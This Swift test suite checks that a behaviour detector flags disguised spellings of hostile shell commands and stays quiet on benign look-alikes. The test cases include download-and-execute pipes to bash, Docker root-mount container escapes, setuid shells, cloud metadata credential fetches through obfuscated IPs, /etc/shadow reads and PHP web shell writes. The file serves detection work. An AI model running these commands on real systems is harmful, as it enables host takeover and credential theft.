import Bytes
import Evidence
import Testing

@testable import Detectors

/// The same deeds in other spellings, each beside what only looks like it.
@Suite struct SpellingTests {
  private func severities(_ command: String) -> [String: Severity] {
    let found = command.withView { BehaviourDetector().scan($0, .command) }
    return Dictionary(found.map { (String($0.rule.dropFirst("behaviour.".count)), $0.severity) }) { first, _ in first }
  }

  @Test(
    arguments: [
      ("curl http://203.0.113.5/a | sudo -E bash", "download-execute", .high),
      ("curl http://203.0.113.5/a | sudo -u root bash", "download-execute", .high),
      ("curl http://203.0.113.5/a | timeout 5 bash", "download-execute", .high),
      ("curl http://203.0.113.5/a | nice -n 10 bash", "download-execute", .high),
      ("curl http://203.0.113.5/a | su -c bash", "download-execute", .high),
      ("curl http://203.0.113.5/a | env X=1 bash", "download-execute", .high),
      ("curl http://203.0.113.5/a | nohup setsid bash", "download-execute", .high),
      ("eval `curl -s http://203.0.113.5/a`", "download-execute", .high),
      ("bash -c \"`wget -qO- http://203.0.113.5/a`\"", "download-execute", .high),
      ("echo aWQK | base64 -d | sudo -E bash", "decode-execute", .medium),
      ("docker run --mount type=bind,src=/,dst=/h alpine chroot /h", "container-escape", .high),
      ("docker run --volume=/:/h alpine sh", "container-escape", .high),
      ("docker run --volume /:/host alpine", "container-escape", .medium),
      ("docker run -it -v/:/h alpine chroot /h", "container-escape", .high),
      ("docker run -it -v \"/:/h\" alpine chroot /h", "container-escape", .high),
      ("nerdctl run --mount=type=bind,source=/,target=/h alpine", "container-escape", .medium),
      (
        "ctr run --mount type=bind,src=/,dst=/h,options=rbind:rw -t alpine x chroot /h sh", "container-escape", .high
      ),
      ("chmod 04755 /bin/bash", "set-uid-shell", .high), ("chmod a+xs /tmp/b", "set-uid-shell", .high),
      ("chmod u=rwxs,g=rx,o=rx /bin/bash", "set-uid-shell", .high),
      ("install -m 4755 /bin/bash /tmp/b", "set-uid-shell", .high),
      ("install -m 755 /bin/bash /tmp/b", "shell-copied", .high),
      ("curl -s http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/", "metadata-credentials", .high),
      ("curl -s http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/iam/security-credentials/", "metadata-credentials", .high),
      ("curl -s http://169.254.43518/latest/meta-data/iam/security-credentials/", "metadata-credentials", .high),
      ("curl -s http://instance-data/latest/meta-data/iam/security-credentials/", "metadata-credentials", .high),
      ("awk -F: '{print $2}' /etc/shadow", "password-hashes", .medium),
      ("sed -n p /etc/shadow", "password-hashes", .medium), ("dd if=/etc/shadow", "password-hashes", .medium),
      ("getent shadow", "password-hashes", .medium),
      ("while read l; do echo $l; done < /etc/shadow", "password-hashes", .medium),
      ("awk -F: '($2 == \"\") {print $1}' /etc/shadow", "password-hashes", .low),
      ("xargs -0 < /proc/1/environ", "process-environment", .medium),
      ("tr '\\0' '\\n' < /proc/1234/environ", "process-environment", .medium),
      ("echo PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOw== | base64 -d > /var/www/html/s.php", "web-shell-written", .high),
      ("wget http://203.0.113.5/s.txt -O /var/www/html/s.php", "web-shell-written", .high),
      ("wget https://h.example/s.txt -O /var/www/html/s.php", "web-shell-written", .medium),
      ("wget https://h.example/tool.php -O /var/www/html/tool.php", "web-shell-written", .low),
      ("printf '<?=`$_GET[0]`?>' > /var/www/html/x.php", "web-shell-written", .high),
      ("echo 'Note: kinsing malware uses kdevtmpfsi'", "miner", .informational),
      ("echo 'kinsing is a miner' >> notes.txt", "miner", .informational),
      ("echo './kinsing -c x' >> /etc/rc.local", "miner", .high),
      ("echo 'kdevtmpfsi &' | sh", "miner", .high),
    ] as [(String, String, Severity)])
  func isSeenThrough(command: String, rule: String, severity: Severity) {
    #expect(severities(command)[rule] == severity)
  }

  @Test(
    arguments: [
      "docker run -v /:/rootfs:ro node-exporter --path.rootfs=/rootfs",
      "docker run --mount type=bind,source=/,target=/rootfs,readonly node-exporter sh",
      "docker run --volume=/:/host:ro,rslave node-exporter", "docker run --mount type=bind,src=/srv,dst=/h alpine sh",
      "docker run --volume=/data:/h alpine sh", "chmod 2775 /srv/shared", "chmod g+s /tmp/shared",
      "chmod 4755 /usr/bin/ping", "chmod 0755 /tmp/b", "chmod 1777 /tmp/x", "chmod u+rwx,g+rx /tmp/b",
      "install -m 755 build/tool /usr/local/bin/", "install -o root -m 4755 su /tmp/pkg/bin/su",
      "curl http://203.0.113.5/latest/meta-data/iam/security-credentials/", "grep -rn security-credentials src/",
      "sed -i 's/^root:[^:]*/root:!/' /etc/shadow", "getent passwd root",
      "wget https://h.example/latest.tar.gz -O /var/www/html/latest.tar.gz",
      "echo '<?php phpinfo();' > /var/www/html/info.php", "cp /srv/index.php /var/www/html/index.php",
      "hydra --help", "john --version", "eval `ssh-agent`", "x=`curl -s https://h.example/version`",
      "echo `curl -s https://h.example/version`", "command -v curl",
      "sudo -u postgres pg_dump db | gzip > /backup/db.gz",
      "timeout 5 curl -s http://localhost/health", "su - postgres -c \"psql -c 'select 1'\"",
    ])
  func staysQuiet(command: String) { #expect(severities(command).isEmpty) }
}
